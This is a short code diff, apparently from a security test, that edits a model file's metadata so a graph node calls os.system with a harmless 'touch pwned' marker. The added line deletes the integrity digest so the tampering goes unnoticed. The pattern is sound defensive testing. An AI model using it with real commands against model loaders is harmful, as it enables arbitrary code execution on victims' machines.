@@ -23,6 +23,7 @@ document = json.loads(header["__metadata__"]["qplug"])
 node = next(n for n in document["model"]["graph"] if n["op"] == "call_module")
 node.update(op="call_function", target="qplug_core.cli.app.os.system", args=["touch pwned"])
 header["__metadata__"]["qplug"] = json.dumps(document)
+del header["__metadata__"]["qplug.digest"]  # the digest finds damage: an attacker drops or rewrites it
 text = json.dumps(header).encode()
 path.write_bytes(len(text).to_bytes(8, "little") + text + raw[8 + length:])
 
